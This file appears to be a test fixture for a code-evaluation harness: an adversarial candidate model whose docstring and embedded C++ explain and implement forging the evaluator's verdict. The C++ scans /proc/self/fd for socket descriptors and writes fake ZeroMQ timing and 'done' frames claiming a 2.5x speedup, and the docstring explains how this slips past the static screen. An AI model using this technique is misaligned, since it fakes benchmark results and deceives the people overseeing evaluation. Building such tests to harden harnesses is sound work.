# task: env/tasks/cpu/01_relu_scale.py
# expect: runtime_error
"""Hack, class 5 (a forged verdict over the harness's own channel), route: whole ZeroMQ frames
written from a load_inline module onto the worker's socket descriptor. The candidate sends the
evaluator the `warmed`, `timing` and `done` messages the worker would send, with the times it
chooses.

Public sources: gpu-mode/pygpubench PR #22 ("exploit: heap signature scan via ctypes + call
stack walk ... finds result pipe fd": forged results written onto the harness's own result pipe
from the submission's process, "CHEAT SUCCEEDED") and issue #23 ("Signature Authentication
Bypass"); docs/evaluator-protocol.md (the messages and their order); ZeroMQ's ZMTP/3.1 framing
(rfc.zeromq.org, 23/ZMTP: a frame is a flags byte, 0x00 for a last short frame or 0x02 for a last
long one, its size in one or eight big-endian bytes, and the body).

How: the worker's only stream socket is its ZeroMQ PAIR connection to the evaluator (the
zygote's control socket is closed in a forked worker; ZeroMQ signals its threads through
eventfds). The module finds it in /proc/self/fd with fstat (S_ISSOCK) and write()s whole frames
to it, none of which the static screen names (it looks for socket(AF_...), connect, bind, sendto,
recvfrom and socket headers). It does so at the candidate's 7th call, the first call of the
timing phase (5 trials and trial 0's profiled repeat come before it): by then the evaluator has
received every trial message and sent `time`, and the worker's ZeroMQ thread has nothing in
flight, so the forged frames reach the evaluator whole. In order: `warmed` (the first
measurement announces its warm-up, evaluator.starts_beside_warmup / untimed_beside_warmup, both
on by default); `timing` with 20 rounds (max(min_rounds, buckets) with early_stop_spread on: the
evaluator's first measurement), the candidate's own median trial time as cand_ms and 2.5 times
it as ref_ms, with a spread of 0.1% so that the measurement stops early and needs no recheck
(below recheck_above, 3.0); and `done` with status ok, which the evaluator takes as the answer to
its `finish`. The candidate computes honestly throughout (the reference's four passes through
other operators: own_kernels is not 0).

How it pays (shared mode): the verdict's times are the candidate's; 2.5x.

Process mode: the candidate's worker answers `prime` and `go` commands, the clock is the
evaluator's; forged messages on its channel are a broken protocol (runtime_error) or ignored.

Measured (2-core Xeon VM shared with another session's evaluations, `crucible eval --repeat 3`, two
or three runs each, the evaluator rebuilt between them): shared mode ok 2.50x six times (20 rounds,
band 1.5%: the forged figures); process mode runtime_error six times ("the candidate's worker broke
the protocol: expected primed, got warmed").
"""
import json
import time

import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

_SRC = r"""
#include <torch/extension.h>
#include <dirent.h>
#include <errno.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
#include <cstdlib>

// Each message as one last frame of ZMTP/3 (flags, size, body), all written to every stream
// socket this process holds. Returns how many sockets got them.
int post(const std::vector<std::string>& messages) {
  std::string wire;
  for (const auto& m : messages) {
    const unsigned long long n = m.size();
    if (n <= 255) {
      wire.push_back('\x00');
      wire.push_back(static_cast<char>(n));
    } else {
      wire.push_back('\x02');
      for (int i = 7; i >= 0; --i)
        wire.push_back(static_cast<char>((n >> (8 * i)) & 0xff));
    }
    wire += m;
  }
  int sent = 0;
  DIR* dir = opendir("/proc/self/fd");
  if (dir == nullptr)
    return -1;
  while (dirent* e = readdir(dir)) {
    if (e->d_name[0] == '.')
      continue;
    const int fd = std::atoi(e->d_name);
    if (fd == dirfd(dir))
      continue;
    struct stat st;
    if (fstat(fd, &st) != 0 || !S_ISSOCK(st.st_mode))
      continue;
    size_t off = 0;
    int tries = 0;
    while (off < wire.size() && tries < 100000) {
      const ssize_t k = write(fd, wire.data() + off, wire.size() - off);
      if (k > 0) {
        off += static_cast<size_t>(k);
        continue;
      }
      if (k < 0 && errno != EAGAIN && errno != EINTR)
        break;
      ++tries;
      timespec nap{0, 10000};
      nanosleep(&nap, nullptr);
    }
    ++sent;
  }
  closedir(dir);
  return sent;
}
"""

_ext = load_inline(name="crucible_boundary_forge_cpp_zmtp", cpp_sources=_SRC, functions=["post"],
                   extra_cflags=["-O2"], verbose=False)

_TRIAL_CALLS = 6  # 5 correctness trials, and trial 0's profiled second call
_ROUNDS = 20  # the evaluator's first measurement: max(min_rounds, buckets)


def _messages(cand_ms, speedup=2.5):
    wobble = [0.001 * ((3 * i) % 5 - 2) / 2 for i in range(_ROUNDS)]
    cand = [cand_ms * (1 + w) for w in wobble]
    ref = [cand_ms * speedup * (1 - w) for w in wobble]
    timing = {"type": "timing", "ref_ms": ref, "cand_ms": cand, "ref_stream_ms": ref, "cand_stream_ms": cand,
              "cand_first": [i % 2 == 0 for i in range(_ROUNDS)], "calls": 1}
    done = {"type": "done", "status": "ok", "checks_failed": [], "message": ""}
    return [json.dumps(m) for m in ({"type": "warmed"}, timing, done)]


class ModelNew(nn.Module):
    def __init__(self, scale=2.0, shift=0.5, clamp_max=6.0):
        super().__init__()
        self.scale = scale
        self.shift = shift
        self.clamp_max = clamp_max
        self.calls = 0
        self.times = []

    def forward(self, x):
        self.calls += 1
        if self.calls == _TRIAL_CALLS + 1:
            ms = sorted(self.times)[len(self.times) // 2] if self.times else 1.0
            _ext.post(_messages(ms))
        t0 = time.perf_counter_ns()
        y = torch.mul(x, self.scale)
        y = torch.add(y, self.shift)
        y = torch.clamp_min(y, 0.0)
        y = torch.clamp_max(y, self.clamp_max)
        if self.calls <= _TRIAL_CALLS:
            self.times.append((time.perf_counter_ns() - t0) / 1e6)
        return y
